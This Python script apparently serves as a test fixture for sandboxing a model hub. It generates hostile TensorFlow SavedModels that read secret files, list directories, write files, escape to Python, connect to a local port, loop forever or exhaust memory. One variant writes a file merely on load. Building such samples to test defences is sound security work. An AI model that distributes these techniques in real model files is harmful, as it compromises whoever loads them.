"""A program that writes SavedModels that attack, and prints what each attack does without a sandbox."""

import json
import os
import socket
import sys
import threading
from pathlib import Path

import numpy as np
import tensorflow as tf

from zoo.hub.savedmodel import SavedModel

ATTACKS = ("none", "read", "list", "write", "print", "save", "python", "connect", "loop", "fill")
WIDTH = 4
WINDOW, HOP = 15600, 15360
WAVEFORM = tf.TensorSpec([None], tf.float32)


class Hostile(tf.Module):
    """Of VGGish's kind, a row for each 0.96 s; the first sample says which attack it makes on the way.

    All numbers of an output are what the attack has brought; the secret is a number too.

    Parameters
    ----------
    secret : Path
        A file to read.
    target : Path
        A file to write.
    port : int
        To connect to, on this machine.
    """

    def __init__(self, secret: Path, target: Path, port: int):
        super().__init__()
        self._nothing = tf.Variable(0.0)
        self._secret, self._target, self._address = str(secret), str(target), f"127.0.0.1:{port}"

    @tf.function(input_signature=[WAVEFORM])
    def __call__(self, waveform):
        attacks = [getattr(self, f"_{name}") for name in ATTACKS]
        loot = tf.switch_case(tf.cast(waveform[0], tf.int32), attacks)
        rows = (tf.size(waveform) - WINDOW) // HOP + 1
        return tf.fill([rows, WIDTH], loot)

    def _none(self):
        return self._nothing.read_value()

    def _read(self):
        return tf.strings.to_number(tf.io.read_file(self._secret))

    def _list(self):
        return tf.cast(tf.size(tf.io.matching_files(f"{Path(self._secret).parent}/*")), tf.float32)

    def _write(self):
        with tf.control_dependencies([tf.io.write_file(self._target, "written")]):
            return tf.identity(1.0)

    def _print(self):
        with tf.control_dependencies([tf.print("printed", output_stream=f"file://{self._target}")]):
            return tf.identity(1.0)

    def _save(self):
        saving = tf.raw_ops.SaveV2(
            prefix=self._target, tensor_names=["x"], shape_and_slices=[""], tensors=[tf.zeros(1)]
        )
        with tf.control_dependencies([saving]):
            return tf.identity(1.0)

    def _python(self):
        return tf.py_function(lambda: float(Path(self._secret).read_text()), [], tf.float32)

    def _connect(self):
        data = tf.data.experimental.service.from_dataset_id(
            "parallel_epochs", f"grpc://{self._address}", "1", tf.TensorSpec([], tf.float32)
        )
        return data.reduce(0.0, tf.maximum)

    def _loop(self):
        return tf.while_loop(lambda count: count >= 0, lambda count: count + 0.0, [tf.random.uniform([])])[0]

    def _fill(self):
        return tf.reduce_max(tf.random.uniform([500_000_000]))  # 2 GB


class ClassMap(tf.Module):
    """Of YAMNet's kind, with one class; the file that names it is anywhere."""

    def __init__(self, path: Path):
        super().__init__()
        self._nothing, self._path = tf.Variable(0.0), str(path)

    @tf.function(input_signature=[])
    def class_map_path(self):
        return tf.constant(self._path)

    @tf.function(input_signature=[WAVEFORM])
    def __call__(self, waveform):
        rows = (tf.size(waveform) - WINDOW) // 7680 + 1
        return tuple(tf.fill([rows, width], self._nothing.read_value()) for width in (1, WIDTH, 64))


class AtLoad(tf.Module):
    """Writes a file while it is loaded, before anything is asked of it."""

    class _Writer(tf.lookup.KeyValueTensorInitializer):
        def __init__(self, target: Path):
            super().__init__(["key"], ["value"])
            self._target = str(target)

        def initialize(self, table):
            with tf.control_dependencies([tf.io.write_file(self._target, "written")]):
                return super().initialize(table)

    def __init__(self, target: Path):
        super().__init__()
        self._table = tf.lookup.StaticHashTable(self._Writer(target), "")


def attacked(module: Hostile, target: Path) -> dict[str, float]:
    """What an attack brings, or how many files it writes, where nothing stops it."""
    waveform, outcomes = np.zeros(WINDOW, np.float32), {}
    for attack in ("none", "read", "list", "write", "print", "save", "python"):
        waveform[0] = ATTACKS.index(attack)
        loot = float(module(waveform)[0, 0])
        files = list(target.parent.glob(f"{target.name}*"))
        for file in files:
            file.unlink()
        outcomes[attack] = len(files) or loot
    return outcomes


def connected(module: Hostile, server: socket.socket) -> bool:
    """Whether the attack of that name reaches the port; it goes on until this process ends."""
    waveform = np.full(WINDOW, ATTACKS.index("connect"), np.float32)
    threading.Thread(target=module, args=(waveform,), daemon=True).start()
    server.settimeout(60)
    server.accept()[0].close()
    return True


def main(folder: Path, port: int) -> None:
    """Write the SavedModels `hostile`, `at_load` and `class_map`, and print what such modules do here."""
    secret, target, class_map = folder / "secrets" / "secret", folder / "target", folder / "map.csv"
    tf.saved_model.save(Hostile(secret, target, port), str(folder / "hostile"))
    tf.saved_model.save(ClassMap(class_map), str(folder / "class_map"))
    tf.saved_model.save(AtLoad(target), str(folder / "at_load"))
    target.unlink()  # an initializer runs here as well
    tf.saved_model.load(str(folder / "at_load"))
    outcomes = {
        "at_load": target.read_text(),
        "class_map": SavedModel(str(folder / "class_map")).answer({})[0]["labels"],
    }
    target.unlink()
    with socket.create_server(("127.0.0.1", 0)) as server:
        module = Hostile(secret, target, server.getsockname()[1])
        outcomes |= attacked(module, target) | {"connect": connected(module, server)}
    print(json.dumps(outcomes | {"attacks": ATTACKS}), flush=True)
    os._exit(0)  # with its threads


if __name__ == "__main__":
    main(Path(sys.argv[1]), int(sys.argv[2]))
